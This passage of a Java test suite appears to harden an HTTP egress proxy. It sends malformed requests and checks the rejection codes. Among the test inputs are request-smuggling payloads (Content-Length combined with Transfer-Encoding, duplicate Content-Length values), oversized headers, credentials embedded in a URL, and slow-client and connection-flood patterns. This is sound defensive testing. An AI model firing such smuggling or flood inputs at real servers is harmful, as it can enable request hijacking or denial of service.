                raw.send(request);
                String head = raw.readHead();
                int length = Integer.parseInt(head.replaceAll("(?s).*content-length: (\\d+).*", "$1"));
                raw.readBytes(length);

                raw.readTimeout(900);
                assertThat(raw.closedByPeer()).as("closed while idle between requests").isFalse();
                raw.readTimeout(10_000);
                raw.send(request);

                assertThat(raw.readHead()).startsWith("HTTP/1.1 200");
            }
        }

        private String exchange(ProxyFixture f, String request) throws IOException {
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send(request);
                return raw.readAll();
            }
        }

        @Test
        void malformedRequestLineGets400() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "THIS IS NOT HTTP\r\n\r\n")).startsWith("HTTP/1.1 400");
            f.awaitRule("malformed_request");
        }

        @Test
        void oversizedHeadersGet431() throws Exception {
            ProxyFixture f = start();
            String big = "X-Big: " + "a".repeat(70 * 1024) + "\r\n";

            assertThat(exchange(f, "GET " + f.plainBase() + "/ HTTP/1.1\r\nHost: plain.test\r\n" + big + "\r\n"))
                    .startsWith("HTTP/1.1 431");
        }

        @Test
        void contentLengthWithTransferEncodingGets400() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "POST " + f.plainBase() + "/ HTTP/1.1\r\nHost: plain.test\r\n"
                    + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")).startsWith("HTTP/1.1 400");
            assertThat(f.plainOrigin().poll(200)).isNull();
        }

        @Test
        void conflictingContentLengthsGet400() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "POST " + f.plainBase() + "/ HTTP/1.1\r\nHost: plain.test\r\n"
                    + "Content-Length: 5\r\nContent-Length: 7\r\n\r\nhello")).startsWith("HTTP/1.1 400");
        }

        @Test
        void connectWithoutPortGets400() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "CONNECT origin.test HTTP/1.1\r\n\r\n")).startsWith("HTTP/1.1 400")
                    .contains("missing_port");
        }

        @Test
        void userinfoInUrlGets400WithoutEchoingIt() throws Exception {
            ProxyFixture f = start();

            String response = exchange(f, "GET http://user:hunter2@plain.test:" + f.plainOrigin().port()
                    + "/ HTTP/1.1\r\nHost: plain.test\r\n\r\n");

            assertThat(response).startsWith("HTTP/1.1 400").contains("userinfo").doesNotContain("hunter2");
        }

        @Test
        void originFormOnProxyGets400() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n")).startsWith("HTTP/1.1 400")
                    .contains("not_absolute_form");
        }

        @Test
        void viaLoopIsRefused() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "GET " + f.plainBase() + "/ HTTP/1.1\r\nHost: plain.test\r\n"
                    + "Via: 1.1 claude-bottle-egress\r\n\r\n")).startsWith("HTTP/1.1 403").contains("rule: loop");
        }

        @Test
        void slowClientGets408() throws Exception {
            ProxyFixture f = start(b -> b.limits(new Limits(100, Duration.ofMillis(300), Duration.ofSeconds(30),
                    Duration.ofSeconds(5), 64 * 1024, 16 * 1024)));

            assertThat(exchange(f, "GET " + f.plainBase() + "/ HTTP/1.1\r\nHost: pla")).startsWith("HTTP/1.1 408");
            f.awaitRule("header_timeout");
        }

        @Test
        void idleConnectionIsClosed() throws Exception {
            ProxyFixture f = start(b -> b.limits(new Limits(100, Duration.ofSeconds(30), Duration.ofMillis(300),
                    Duration.ofSeconds(5), 64 * 1024, 16 * 1024)));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                assertThat(raw.closedByPeer()).isTrue();
            }
        }

        @Test
        void connectionFloodGets503() throws Exception {
            ProxyFixture f = start(b -> b.limits(new Limits(2, Duration.ofSeconds(30), Duration.ofSeconds(30),
                    Duration.ofSeconds(5), 64 * 1024, 16 * 1024)));
            try (RawClient one = new RawClient(f.proxyPort()); RawClient two = new RawClient(f.proxyPort());
                 RawClient three = new RawClient(f.proxyPort())) {

                assertThat(three.readAll()).startsWith("HTTP/1.1 503");
                one.send("GET " + f.plainBase() + "/still-served HTTP/1.1\r\nHost: plain.test\r\n\r\n");
                assertThat(one.readHead()).startsWith("HTTP/1.1 200");
                two.readTimeout(300);
                assertThat(two.closedByPeer()).as("second connection still open").isFalse();
            }
            f.awaitRule("connection_limit");
        }

        @Test
        void unsupportedTransferEncodingIsRefused() throws Exception {
            ProxyFixture f = start();

            assertThat(exchange(f, "POST " + f.plainBase() + "/ HTTP/1.1\r\nHost: plain.test\r\n"
                    + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n")).startsWith("HTTP/1.1 ");
            assertThat(f.plainOrigin().poll(200)).isNull();
        }
    }

    static InetAddress address(int a, int b, int c, int d) {
        try {
            return InetAddress.getByAddress(new byte[] {(byte) a, (byte) b, (byte) c, (byte) d});
        } catch (java.net.UnknownHostException e) {
            throw new AssertionError(e);
        }
    }

    static byte[] gzip(byte[] data) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(data);
        }
        return out.toByteArray();
    }

    /** Formats a record the way the audit file does. */
    static final class AuditLogText {
        static String of(AuditRecord record) {
            return dev.claudebottle.egress.audit.AuditLog.toJson(record);
        }
    }
}
